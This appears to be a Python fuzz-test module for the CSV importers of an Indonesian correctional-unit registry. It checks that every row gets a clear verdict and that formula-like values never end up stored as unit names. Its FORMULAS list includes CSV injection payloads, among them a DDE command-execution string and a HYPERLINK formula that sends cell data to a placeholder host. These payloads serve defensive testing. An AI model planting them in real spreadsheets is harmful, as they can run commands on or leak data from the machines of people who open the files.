"""Fuzzing the CSV imports of units and accounts: every row gets a verdict.

Hypothesis writes CSV files the way people and spreadsheets do, and worse:
columns in any order, missing or unknown or repeated, headers in another
case or missing altogether; separators "," ";" tab and "|"; UTF-8 with and
without a BOM, Latin-1, Windows-1252 and UTF-16; CRLF and bare CR line ends;
overlong fields, quotes, line breaks and NUL inside cells; formula-injection
values (=CMD(), +1, @SUM, -2+3, a leading tab); duplicated rows; and, on top
of all that, raw byte damage (a cut mid-quote, bytes dropped or inserted).

The properties, for both imports (units.imports.unit_csv and account_csv),
in a real run and in a dry run, and through the management commands:

- no exception ever leaves the importer;
- either the file gets exactly one file-level verdict (line 1, an error with
  a reason) or every record gets its own row: in order, one per non-blank
  record of a well-formed file, each created / updated / unchanged (naming
  the unit or account written) or an error with a reason in words;
- a formula-like value is never stored at the start of a unit's name
  (see FORMULA_PREFIXES below).

Example counts: tests/fuzzing.py (HYPOTHESIS_PROFILE=long for more).
"""

import csv
import io
import re

import pytest
from django.core.management import CommandError, call_command
from django.db import transaction
from hypothesis import example, given
from hypothesis import strategies as st

from tests.factories import UnitFactory, UserFactory
from tests.fuzzing import fuzz_settings
from units.imports.account_csv import COLUMNS as ACCOUNT_COLUMNS
from units.imports.account_csv import account_import_csv
from units.imports.csvfile import ImportReport, RowStatus, import_report_lines
from units.imports.unit_csv import COLUMNS as UNIT_COLUMNS
from units.imports.unit_csv import unit_import_csv
from units.models import Region, Role, Unit, User

pytestmark = pytest.mark.django_db

STATUSES = {RowStatus.CREATED, RowStatus.UPDATED, RowStatus.UNCHANGED}
FORMULAS = [
    "=CMD()",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")',
    "+62 21 000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1",
    "=1+1;=2",
]
# Technical leftovers a reason must never show a user.
NOT_A_REASON = re.compile(r"Traceback|object at 0x|\bNone\b|Error\(|\{'|\[\]")

# --- Cells ----------------------------------------------------------------------

unit_names = st.sampled_from(
    [
        "Lapas Kelas IIA Salemba",
        "Rutan Kelas IIB Bangil",
        "Lapas Narkotika Kelas IIA Karang Intan",
        "LAPAS KLAS II A SALEMBA",
        "Bapas Kelas I Semarang",
        "LPKA Kelas II Jakarta",
        "Lembaga Pemasyarakatan (Lapas) Pemuda Kelas IIA Tangerang",
        "Kantor Pusat",
        "Lapas Kelas IIA Fuzz",  # a known unit: updated or unchanged
    ]
)
regions = st.sampled_from(
    [
        "DKI Jakarta",
        "31",
        "Kanwil Jawa Timur",
        "KANWIL KEMENKUMHAM  KALSEL",
        "jateng",
        "Atlantis",
        "99",
        "kanwil",
    ]
)
unit_kinds = st.sampled_from(["Lapas", "rutan", "LPKA", "bapas", "Kapal", "lp"])
unit_classes = st.sampled_from(["I", "IIA", "II A", "kelas iib", "III", "IV", "z"])
roles = st.sampled_from(
    [
        "kontributor",
        "Kepala UPT",
        "peninjau",
        "editor",
        "administrator",
        "humas",
        "KONTRIBUTOR",
        "tukang",
    ]
)
usernames = st.one_of(
    st.from_regex(r"[a-z][a-z0-9._-]{0,12}", fullmatch=True),
    st.just("humas.fuzz"),  # a known account: updated or unchanged
)
emails = st.one_of(
    st.builds("{}@{}.go.id".format, usernames, st.sampled_from(["lapas", "rutan"])),
    st.sampled_from(["bukan-email", "@", "a@b", "x@example.go.id", ""]),
)
odd_text = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40
)
overlong = st.builds(
    lambda chunk, times: chunk * times,
    st.sampled_from(["a", "é", "雨", ";", ",", '"', "\n", "x y "]),
    st.integers(min_value=200, max_value=6000),
)


def cells_for(plausible) -> st.SearchStrategy[str]:
    """A cell: mostly plausible (so rows also get created and updated),
    otherwise empty, a formula, odd unicode or overlong."""
    hostile = st.one_of(st.just(""), st.sampled_from(FORMULAS), odd_text, overlong)
    return st.integers(0, 9).flatmap(lambda i: plausible if i < 8 else hostile)


UNIT_CELLS = {
    "kode": cells_for(st.from_regex(r"[A-Z]{3}[0-9]{2}", fullmatch=True)),
    "nama": cells_for(unit_names),
    "jenis": cells_for(unit_kinds),
    "kekhususan": cells_for(st.sampled_from(["umum", "narkotika", "perempuan", "-"])),
    "kelas": cells_for(unit_classes),
    "tempat": cells_for(st.sampled_from(["Salemba", "Bangil", "Kota Uji"])),
    "kanwil": cells_for(regions),
    "alamat": cells_for(st.just("Jl. Percetakan Negara No. 88\nJakarta Pusat")),
    "telepon": cells_for(st.sampled_from(["021-4201234", "+62 21 4201234"])),
    "email": cells_for(emails),
    "website": cells_for(st.sampled_from(["lapas.go.id", "https://rutan.go.id", "x"])),
    "profil": cells_for(st.just("Profil singkat.\n\nDua paragraf.")),
}
ACCOUNT_CELLS = {
    "nama_pengguna": cells_for(usernames),
    "nama_lengkap": cells_for(st.sampled_from(["Siti Aminah", "Budi", "Ni Made"])),
    "email": cells_for(emails),
    "upt": cells_for(st.sampled_from(["FUZ01", "fuz 02", "Lapas Kelas IIA Fuzz"])),
    "peran": cells_for(roles),
    "kanwil": cells_for(regions),
}
UNIT_REQUIRED = ("nama", "kanwil")
ACCOUNT_REQUIRED = ("nama_pengguna", "nama_lengkap", "email", "peran", "upt")
# Headers people write instead (account_csv.COLUMN_ALIASES) and plain noise.
EXTRA_HEADERS = ["username", "e-mail", "role", "unit", "Keterangan", "", "nama "]

# --- Files ------------------------------------------------------------------------


@st.composite
def csv_files(draw, known_columns, cell_strategies, required=()):
    """(bytes, expected): expected is the number of non-blank records when the
    file is well-formed UTF-8 with a header, else None (no count to check).

    Mostly the header has the required columns (so rows get their own
    verdicts), in any order among others; sometimes any columns at all.
    """
    extra = st.one_of(st.sampled_from(known_columns), st.sampled_from(EXTRA_HEADERS))
    if required and draw(st.integers(0, 9)) < 8:
        others = [c for c in known_columns if c not in required]
        more = draw(st.lists(st.sampled_from(others), max_size=6, unique=True))
        columns = draw(st.permutations(list(required) + more))
    else:
        columns = draw(st.lists(extra, min_size=1, max_size=len(known_columns) + 2))
    header = [
        draw(st.sampled_from([c, c, c.upper(), " %s " % c, c.title()])) for c in columns
    ]
    strategies = [cell_strategies.get(c.strip(), odd_text) for c in columns]
    rows = draw(
        st.lists(st.tuples(*strategies).map(list), max_size=8)
        if strategies
        else st.just([])
    )
    # Duplicated rows, as a copy-and-paste leaves them.
    if rows and draw(st.booleans()):
        rows += draw(st.lists(st.sampled_from(rows), min_size=1, max_size=3))
    delimiter = draw(st.sampled_from([",", ",", ";", ";", "\t", "|"]))
    line_end = draw(st.sampled_from(["\n", "\r\n", "\r\n", "\r"]))
    with_header = draw(st.integers(0, 9)) != 0  # mostly with a header

    text = io.StringIO()
    quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]))
    writer = csv.writer(
        text, delimiter=delimiter, lineterminator=line_end, quoting=quoting
    )
    if with_header:
        writer.writerow(header)
    writer.writerows(rows)
    body = text.getvalue()

    encoding = draw(
        st.sampled_from(
            [
                "utf-8",
                "utf-8",
                "utf-8",
                "utf-8-sig",
                "utf-8-sig",
                "latin-1",
                "cp1252",
                "utf-16",
                "utf-16-le",
            ]
        )
    )
    data = body.encode(encoding, errors="replace")
    damage = draw(st.sampled_from(["none"] * 6 + ["cut", "drop", "insert"]))
    if data and damage != "none":
        at = draw(st.integers(0, len(data) - 1))
        if damage == "cut":
            data = data[:at]
        elif damage == "drop":
            data = data[:at] + data[at + 1 :]
        else:
            junk = draw(
                st.sampled_from([b'"', b"\x00", b"\xff", b"\r", b";\n", b"\xc3"])
            )
            data = data[:at] + junk + data[at:]

    well_formed = (
        encoding in ("utf-8", "utf-8-sig")
        and damage == "none"
        and with_header
        # The separator is guessed from the header: it must be the one used.
        and guessed_delimiter(body) == delimiter
        # The file reads back as written (csv quotes a bare CR in a cell only
        # when it ends lines with one).
        and reads_back(body, delimiter) == [header, *rows]
    )
    expected = None
    if well_formed:
        expected = sum(1 for row in rows if any(cell.strip() for cell in row))
    return data, expected


def reads_back(body: str, delimiter: str) -> list[list[str]] | None:
    try:
        return list(csv.reader(io.StringIO(body, newline=""), delimiter=delimiter))
    except csv.Error:
        return None


def guessed_delimiter(body: str) -> str:
    first = body.splitlines()[0] if body else ""
    return ";" if first.count(";") > first.count(",") else ","


# --- The properties ------------------------------------------------------------


def assert_clear_verdicts(report: ImportReport, *, expected, model):
    lines = import_report_lines(report)  # the report prints, whatever it holds
    assert lines[-1] or report.dry_run
    file_level = [row for row in report.rows if row.line == 1]
    if file_level:
        # One clear verdict on the whole file, nothing else.
        assert len(report.rows) == 1
        (row,) = report.rows
        assert row.status == RowStatus.ERROR
        assert row.reason.strip() and not NOT_A_REASON.search(row.reason)
        return
    numbers = [row.line for row in report.rows]
    assert numbers == sorted(set(numbers)), "rows out of order or repeated"
    assert all(line >= 2 for line in numbers)
    if expected is not None:
        assert len(report.rows) == expected
    for row in report.rows:
        if row.status == RowStatus.ERROR:
            assert row.reason.strip(), "line %d: an error without a reason" % row.line
            assert not NOT_A_REASON.search(row.reason), row.reason
        else:
            assert row.status in STATUSES
            assert row.object_id is not None and row.name
            if not report.dry_run:
                assert model.objects.filter(pk=row.object_id).exists()


FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def assert_no_formula_names():
    """A unit's name, as shown in lists and exported, never starts a formula."""
    names = Unit.objects.values_list("name", flat=True)
    assert not [name for name in names if name.startswith(FORMULA_PREFIXES)]


def run_in_savepoint(function):
    """Each example starts from the same database: its writes roll back."""
    with transaction.atomic():
        result = function()
        transaction.set_rollback(True)
    return result


@pytest.fixture
def known_units(db):
    """Units the account rows may name, by code and by name."""
    region = Region.objects.get(province_code="31")
    units = [
        UnitFactory(code="FUZ01", name="Lapas Kelas IIA Fuzz", region=region),
        UnitFactory(code="FUZ02", region=region),
    ]
    UserFactory(
        username="humas.fuzz",
        email="humas.fuzz@lapas.go.id",
        first_name="Siti Aminah",
        unit=units[0],
        role=Role.CONTRIBUTOR,
    )
    return units


@fuzz_settings(300)
@given(file=csv_files(UNIT_COLUMNS, UNIT_CELLS, UNIT_REQUIRED), dry_run=st.booleans())
@example(file=(b"", None), dry_run=False)
@example(file=(b"\xef\xbb\xbf", None), dry_run=False)
@example(file=("nama,kanwil\n".encode("utf-16"), None), dry_run=False)
@example(file=(b'nama,kanwil\n"Lapas Kelas IIA Salemba,31\n', None), dry_run=False)
@example(
    file=(
        b"nama,jenis,tempat,kanwil\n=CMD(),Lapas,Salemba,31\n"
        b"@SUM(A1),Rutan,Bangil,31\n",
        2,
    ),
    dry_run=False,
)
@example(
    file=(b"nama,kanwil,kanwil\nLapas Kelas I Cipinang,31,31\n", None), dry_run=False
)
@example(file=(b"nama;kanwil\r\nLapas Kelas I Cipinang;31;x;y\r\n", 1), dry_run=True)
def test_unit_import_gives_every_row_a_verdict(known_units, file, dry_run):
    data, expected = file

    def check():
        report = unit_import_csv(file=data, dry_run=dry_run)
        assert_clear_verdicts(report, expected=expected, model=Unit)
        assert_no_formula_names()

    run_in_savepoint(check)


@fuzz_settings(300)
@given(
    file=csv_files(ACCOUNT_COLUMNS, ACCOUNT_CELLS, ACCOUNT_REQUIRED),
    dry_run=st.booleans(),
)
@example(file=(b"", None), dry_run=False)
@example(file=("nama_pengguna,email\n".encode("utf-16-le"), None), dry_run=False)
@example(
    file=(
        b"nama_pengguna,nama_lengkap,email,upt,peran\n"
        b"siti,=CMD(),siti@lapas.go.id,FUZ01,kontributor\n"
        b"siti,=CMD(),siti@lapas.go.id,FUZ01,kontributor\n"
        b"budi,Budi,budi@lapas.go.id,fuz01,administrator\n",
        3,
    ),
    dry_run=False,
)
def test_account_import_gives_every_row_a_verdict(known_units, file, dry_run):
    data, expected = file

    def check():
        report = account_import_csv(file=data, dry_run=dry_run)
        assert_clear_verdicts(report, expected=expected, model=User)

    run_in_savepoint(check)


@fuzz_settings(60)
@given(
    command=st.sampled_from(["import_units", "import_accounts"]),
    file=st.one_of(
        csv_files(UNIT_COLUMNS, UNIT_CELLS, UNIT_REQUIRED),
        csv_files(ACCOUNT_COLUMNS, ACCOUNT_CELLS, ACCOUNT_REQUIRED),
    ),
)
def test_the_commands_report_or_exit_cleanly(known_units, tmp_path, command, file):
    """Through manage.py: a report and exit 0, or CommandError with status 1."""
    data, _ = file
    path = tmp_path / "impor.csv"
    path.write_bytes(data)
    out = io.StringIO()

    def run():
        try:
            call_command(command, str(path), "--dry-run", stdout=out)
        except CommandError as exc:
            assert exc.returncode == 1
            assert "baris gagal diimpor" in str(exc)

    run_in_savepoint(run)
    assert out.getvalue().strip()


def test_a_formula_as_a_units_name_is_refused_with_its_reason(db):
    """Found by the fuzzing above: a name such as =CMD() (with jenis and
    tempat filled in) was stored, and the awards' CSV and XLSX downloads
    carry unit names to spreadsheets."""
    report = unit_import_csv(
        file=b"nama,jenis,tempat,kanwil\n=CMD(),Lapas,Salemba,31\n"
        b"Lapas Kelas I Cipinang,,,31\n"
    )
    assert [(row.line, row.status) for row in report.rows] == [
        (2, RowStatus.ERROR),
        (3, RowStatus.CREATED),
    ]
    assert "diawali tanda rumus" in report.rows[0].reason
    assert not Unit.objects.filter(name="=CMD()").exists()


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_utf16_file_is_told_to_be_saved_as_utf8(db, encoding):
    """Found by the fuzzing above: UTF-16 without a byte-order mark passed as
    UTF-8 full of NULs, and the verdict blamed a missing kanwil column."""
    data = "nama,kanwil\nLapas Kelas I Cipinang,31\n".encode(encoding)
    (row,) = unit_import_csv(file=data).rows
    assert (row.line, row.status) == (1, RowStatus.ERROR)
    assert "bukan teks UTF-8" in row.reason
